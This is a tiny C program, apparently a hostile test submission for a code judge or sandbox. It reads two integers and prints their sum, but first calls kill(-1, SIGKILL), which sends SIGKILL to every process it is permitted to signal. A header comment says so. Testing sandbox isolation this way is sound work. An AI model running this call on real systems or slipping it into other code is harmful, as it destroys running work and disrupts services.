/* Kills every process that it may. */
#include <stdio.h>
#include <signal.h>

int main(void)
{
	int a, b;
	if (scanf("%d %d", &a, &b) != 2)
		return 1;
	kill(-1, SIGKILL);
	printf("%d\n", a + b);
	return 0;
}
